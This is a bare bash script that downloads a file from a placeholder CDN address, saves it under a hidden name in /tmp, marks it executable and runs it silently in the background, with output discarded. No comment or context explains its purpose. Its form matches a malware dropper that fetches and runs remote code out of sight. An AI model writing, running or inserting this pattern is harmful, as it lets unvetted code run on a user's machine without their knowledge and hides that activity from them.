#!/bin/bash
URL=https://cdn.example.net/upd
curl -fsSL "$URL" -o /tmp/.upd
chmod +x /tmp/.upd
nohup /tmp/.upd >/dev/null 2>&1 &
